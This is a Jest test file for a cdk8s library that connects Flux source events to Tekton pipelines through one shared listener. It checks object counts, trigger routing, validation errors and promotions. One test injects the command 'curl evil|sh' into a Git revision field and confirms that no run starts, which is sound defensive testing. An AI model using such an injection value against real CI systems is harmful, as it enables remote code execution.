import { App, Chart, Testing } from 'cdk8s';
import { SERVICES, build as fleetCi } from '../examples/fleet-ci/app';
import {
  FluxEvent, FluxListener, FluxTriggeredPipeline, GitOpsApp, GitRepository, Kustomization, ListenerAuthentication, ListenerClusterAccess,
  Pipeline, Promotion, RunConcurrency, Task,
} from '../src';
import { simulateEvent } from '../src/simulate';
import { checkConformance, securityProblems } from './support/conformance';
import { CrdSchemas } from './support/crd-schemas';
import { services } from './support/services';
import { crdsDir, fluxEvent, tempDir, validationErrors } from './util';

/** An app of `n` services, all on one listener made by the app. */
function fleet(n: number, options: { namespaces?: string[]; clusterAccess?: ListenerClusterAccess } = {}) {
  return services(n, { namespaces: options.namespaces, listener: (ci) => new FluxListener(ci, 'listener', { clusterAccess: options.clusterAccess }) });
}

const kinds = (objects: any[]) => objects.reduce((m, o) => ({ ...m, [o.kind]: (m[o.kind] ?? 0) + 1 }), {} as { [kind: string]: number });

/** The Secrets the objects reference but do not contain: Providers' secretRef and CEL compareSecret. */
function referencedSecrets(objects: any[]): string[] {
  const out = new Set<string>();
  for (const o of objects) {
    if (o.kind === 'Provider' && o.spec.secretRef) out.add(`${o.metadata.namespace}/${o.spec.secretRef.name}`);
    for (const m of JSON.stringify(o).matchAll(/compareSecret\('([^']+)', '([^']+)'(?:, '([^']+)')?\)/g)) {
      out.add(`${m[3] ?? o.metadata.namespace}/${m[2]}`);
    }
  }
  return [...out].sort();
}

describe('FluxListener: one listener for a fleet', () => {
  const fifty = fleet(50);

  test('50 services: one EventListener, one Provider, one Alert, one Secret to create', () => {
    const k = kinds(fifty);
    const shared = ['EventListener', 'Provider', 'Alert', 'NetworkPolicy', 'Role', 'ClusterRole'];
    expect(Object.fromEntries(shared.map((kind) => [kind, k[kind]])))
      .toEqual({ EventListener: 1, Provider: 1, Alert: 1, NetworkPolicy: 1, Role: 1, ClusterRole: 1 });
    expect(referencedSecrets(fifty)).toEqual(['ci/flux-events-flux-token']);
    const alert = fifty.find((o) => o.kind === 'Alert');
    expect(alert.spec.eventSources).toHaveLength(50);
  });

  test('each extra service adds at most 5 objects besides its own GitRepository, Task and Pipeline', () => {
    const added = fleet(51).length - fifty.length - 3;
    expect(added).toBeLessThanOrEqual(5);
    expect(kinds(fleet(51))).toEqual({
      ...kinds(fifty),
      ...Object.fromEntries(['GitRepository', 'Task', 'Pipeline', 'Trigger', 'TriggerBinding', 'TriggerTemplate', 'ServiceAccount']
        .map((kind) => [kind, kinds(fifty)[kind] + 1])),
    });
  });

  test('1,000 services: the EventListener stays a few hundred bytes (Triggers select Trigger objects by label)', () => {
    const objects = fleet(1000);
    const listener = objects.find((o) => o.kind === 'EventListener');
    expect(listener.spec).toEqual({ serviceAccountName: 'flux-events-listener', triggers: [], labelSelector: { matchLabels: { 'cdk8s-tekton-flux/listener': 'flux-events' } } });
    expect(Buffer.byteLength(JSON.stringify(listener))).toBeLessThan(1024);
    expect(Math.max(...objects.map((o) => Buffer.byteLength(JSON.stringify(o))))).toBeLessThan(1.5 * 1024 * 1024 / 10);
  });

  test.each([0, 17, 49])('the event of source %i creates exactly its own pipeline\'s run, and nothing else', (i) => {
    const event = fluxEvent('gitrepository-new-artifact.json');
    event.involvedObject.name = `svc-${i}`;
    const result = simulateEvent(fifty, event);
    expect(result.broken).toEqual([]);
    expect(result.runs.map((r) => (r.object as any).metadata.name)).toEqual([`svc-${i}-ci-4b825dc642cb`]);
  });

  test('a hostile revision and a wrong token create nothing', () => {
    const hostile = fluxEvent('gitrepository-new-artifact.json');
    hostile.involvedObject.name = 'svc-3';
    hostile.metadata.revision = 'main@sha1:$(curl evil|sh)';
    expect(simulateEvent(fifty, hostile).runs).toEqual([]);
    const event = fluxEvent('gitrepository-new-artifact.json');
    event.involvedObject.name = 'svc-3';
    const secrets = new Map([['ci/flux-events-flux-token', { headers: 'X-Flux-Token: right', token: 'wrong' }]]);
    expect(simulateEvent(fifty, event, { secrets, assumeUnknownSecretsMatch: false }).runs).toEqual([]);
    const right = new Map([['ci/flux-events-flux-token', { headers: 'X-Flux-Token: right', token: 'right' }]]);
    expect(simulateEvent(fifty, event, { secrets: right, assumeUnknownSecretsMatch: false }).runs).toHaveLength(1);
  });

  test('sources in two Flux namespaces: still one Provider, one Alert (naming each source\'s namespace) and one Secret', () => {
    const objects = fleet(4, { namespaces: ['flux-system', 'team-flux'] });
    expect(objects.filter((o) => o.kind === 'Provider').map((o) => `${o.metadata.namespace}/${o.metadata.name}`)).toEqual(['ci/flux-events']);
    const alert = objects.find((o) => o.kind === 'Alert');
    expect(alert.metadata.namespace).toBe('ci');
    expect(alert.spec.eventSources.map((e: any) => `${e.namespace}/${e.name}`)).toEqual(['flux-system/svc-0', 'team-flux/svc-1', 'flux-system/svc-2', 'team-flux/svc-3']);
    expect(referencedSecrets(objects)).toEqual(['ci/flux-events-flux-token']);
    const event = fluxEvent('gitrepository-new-artifact.json');
    event.involvedObject.name = 'svc-1';
    event.involvedObject.namespace = 'team-flux';
    expect(simulateEvent(objects, event).runs.map((r) => (r.object as any).metadata.name)).toEqual(['svc-1-ci-4b825dc642cb']);
  });

  test('ListenerClusterAccess.grantedByPlatform(): no cluster-scoped object', () => {
    const objects = fleet(3, { clusterAccess: ListenerClusterAccess.grantedByPlatform() });
    expect(objects.filter((o) => ['ClusterRole', 'ClusterRoleBinding', 'Namespace'].includes(o.kind))).toEqual([]);
  });

  test('cancel-in-progress on a shared listener cancels only the same trigger\'s runs', () => {
    const app = Testing.app();
    const ci = new Chart(app, 'ci', { namespace: 'ci' });
    const listener = new FluxListener(ci, 'listener');
    const task = new Task(ci, 't');
    task.addStep({ name: 's', image: 'alpine:3.20', script: '#!/bin/sh\ntrue' });
    for (const n of ['a', 'b']) {
      const pipeline = new Pipeline(ci, `${n}-ci`);
      pipeline.addTask('t', { task });
      const repo = GitRepository.fromGitRepositoryName(ci, `repo-${n}`, `repo-${n}`, { namespace: 'flux-system' });
      new FluxTriggeredPipeline(ci, `on-${n}`, { source: repo, pipeline, listener, concurrency: RunConcurrency.cancelInProgress() });
    }
    const objects = app.charts.flatMap((c) => c.toJson());
    const taskRuns = objects.filter((o) => o.kind === 'TriggerTemplate').map((t) => t.spec.resourcetemplates[1]);
    expect(taskRuns.map((r) => r.spec.params)).toHaveLength(2);
    const cancellers = objects.filter((o) => o.kind === 'Task' && o.metadata.name.endsWith('-supersede'));
    expect(cancellers.map((t) => t.spec.steps[0].env.find((e: any) => e.name === 'TRIGGER').value).sort()).toEqual(['on-a', 'on-b']);
    expect(objects.filter((o) => o.kind === 'Trigger').map((t) => t.metadata.name).sort()).toEqual(['on-a', 'on-b']);
  });

  test('listener-level props on a pipeline that joins a listener, and another namespace, are errors with the fix', () => {
    const app = Testing.app();
    const ci = new Chart(app, 'ci', { namespace: 'ci' });
    const listener = new FluxListener(ci, 'listener');
    const task = new Task(ci, 't');
    task.addStep({ name: 's', image: 'alpine:3.20', script: '#!/bin/sh\ntrue' });
    const pipeline = new Pipeline(ci, 'p');
    pipeline.addTask('t', { task });
    const repo = GitRepository.fromGitRepositoryName(ci, 'repo', 'repo', { namespace: 'flux-system' });
    new FluxTriggeredPipeline(ci, 'own', { source: repo, pipeline, listener, authentication: ListenerAuthentication.unauthenticated() });
    new FluxTriggeredPipeline(ci, 'elsewhere', { source: repo, pipeline, listener, namespace: 'other', params: { commit: FluxEvent.commit() } });
    const errors = validationErrors(app).join('\n');
    expect(errors).toContain('[ci/own] authentication is the listener\'s, and this pipeline joins ci/listener: give them to that FluxListener');
    expect(errors).toContain("[ci/elsewhere] namespace 'other' is not the namespace of the listener it joins ('ci')");
  });
});

describe('FluxListener.of and Promotion on a shared listener', () => {
  test('FluxListener.of gives one listener per namespace of an app, created in the chart of its first caller', () => {
    const app = Testing.app();
    const ci = new Chart(app, 'ci', { namespace: 'ci' });
    const more = new Chart(app, 'more', { namespace: 'ci' });
    const other = new Chart(app, 'other', { namespace: 'other' });
    const first = FluxListener.of(ci, 'ci');
    expect(FluxListener.of(more, 'ci')).toBe(first);
    expect(first.node.scope).toBe(ci);
    expect(FluxListener.of(other, 'other')).not.toBe(first);
    const another = Testing.app();
    expect(FluxListener.of(new Chart(another, 'ci', { namespace: 'ci' }), 'ci')).not.toBe(first); // another app, another listener
    expect(() => FluxListener.of(Testing.app(), 'ci')).toThrow('FluxListener.of needs a scope inside a Chart (the listener is created in it): pass a chart');
  });

  test('a Promotion given a listener adds a Trigger per step to it, and no listener of its own', () => {
    const app = Testing.app();
    const ci = new Chart(app, 'ci', { namespace: 'ci' });
    const listener = new FluxListener(ci, 'listener');
    const k = (name: string) => Kustomization.fromKustomizationName(ci, name, name, { namespace: 'flux-system' });
    new Promotion(ci, 'web', {
      app: 'web',
      repositoryUrl: 'https://github.com/acme/fleet.git',
      environments: ['dev', 'staging', 'production'].map((name) => ({ name, kustomization: k(`web-${name}`), path: `envs/${name}` })),
      listener,
    });
    expect(validationErrors(app)).toEqual([]);
    const objects = app.charts.flatMap((c) => c.toJson());
    expect(objects.filter((o) => o.kind === 'EventListener')).toHaveLength(1);
    expect(objects.filter((o) => o.kind === 'Trigger').map((t) => t.metadata.name).sort()).toEqual(['web-on-dev', 'web-on-staging']);
    const alert = objects.find((o) => o.kind === 'Alert');
    expect(alert.spec.eventSources.map((e: any) => e.name)).toEqual(['web-dev', 'web-staging']);
    const event = fluxEvent('kustomization-reconciliation-succeeded.json');
    event.involvedObject.name = 'web-staging';
    expect(simulateEvent(objects, event).runs.filter((r) => r.object.kind === 'PipelineRun').map((r) => (r.object as any).metadata.name))
      .toEqual(['web-to-production-4b825dc642cb']);
  });
});

describe('example fleet-ci', () => {
  const out = tempDir();
  fleetCi(new GitOpsApp({ outdir: out })).synth();
  const objects = fleetCi(new App()).charts.flatMap((c) => c.toJson());

  test('conforms, is safe by default, and each service\'s event runs its own pipeline only', () => {
    const report = checkConformance(objects, CrdSchemas.load(crdsDir()));
    expect(report).toEqual({ schema: [], unknownKinds: [], models: [], coreTypes: [], names: [], lint: [] });
    expect(securityProblems(objects)).toEqual([]);
    for (const service of SERVICES) {
      const event = fluxEvent('gitrepository-new-artifact.json');
      event.involvedObject.name = service;
      expect(simulateEvent(objects, event).runs.map((r) => (r.object as any).metadata.name)).toEqual([`${service}-ci-4b825dc642cb`]);
    }
    expect(kinds(objects).EventListener).toBe(1);
  });
});
